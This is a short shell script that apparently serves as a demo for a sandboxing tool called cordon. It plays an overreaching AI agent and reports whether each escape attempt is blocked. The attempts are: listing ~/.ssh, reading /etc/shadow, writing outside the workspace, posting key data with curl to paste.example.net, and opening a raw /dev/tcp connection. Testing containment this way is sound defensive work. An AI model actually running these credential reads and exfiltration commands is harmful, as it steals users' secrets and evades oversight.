#!/bin/sh
# A stand-in for an AI agent that has been told to do too much: it reads the project, then
# goes for your SSH keys, plants a git hook and sends what it found to a paste site. Run it
# under cordon (`../demo.sh` does) and see what each attempt comes to.
say() { printf '  %-44s %s\n' "$1" "$2"; }

echo "agent: working in $(pwd)"

files=$(ls | tr '\n' ' ')
say "read the workspace" "ok: $files"

if echo "notes from the agent" > agent-notes.txt 2>/dev/null; then
    say "write in the workspace" "ok: agent-notes.txt"
else
    say "write in the workspace" "refused"
fi

keys=$(ls "$HOME/.ssh" 2>&1)
if [ -n "$keys" ] && [ -z "${keys##*No such file*}" ]; then
    say "list ~/.ssh" "hidden: $HOME/.ssh does not exist here"
else
    say "list ~/.ssh" "SEEN: $keys"
fi

if cat /etc/shadow >/dev/null 2>&1 && [ -s /etc/shadow ]; then
    say "read /etc/shadow" "SEEN"
else
    say "read /etc/shadow" "hidden: empty or unreadable"
fi

if touch /usr/local/bin/agent-was-here 2>/dev/null; then
    say "write outside the workspace" "WRITTEN: /usr/local/bin/agent-was-here"
else
    say "write outside the workspace" "refused: read-only"
fi

if command -v curl >/dev/null 2>&1; then
    # Through the proxy cordon points HTTPS_PROXY at, the only way out of the sandbox.
    status=$(curl -s -o /dev/null -w '%{http_connect} %{http_code}' --max-time 10 \
        -d "keys=$keys" https://paste.example.net/api 2>/dev/null)
    case "$status" in
        "403 "*) say "upload to paste.example.net" "refused by the egress proxy (403)" ;;
        *" 000") say "upload to paste.example.net" "failed (no connection)" ;;
        *) say "upload to paste.example.net" "SENT (HTTP ${status#* })" ;;
    esac
else
    say "upload to paste.example.net" "skipped: no curl here"
fi

if (exec 3<>/dev/tcp/1.1.1.1/53) 2>/dev/null; then
    say "raw connection to 1.1.1.1:53" "CONNECTED"
else
    say "raw connection to 1.1.1.1:53" "refused: no route but the proxy"
fi
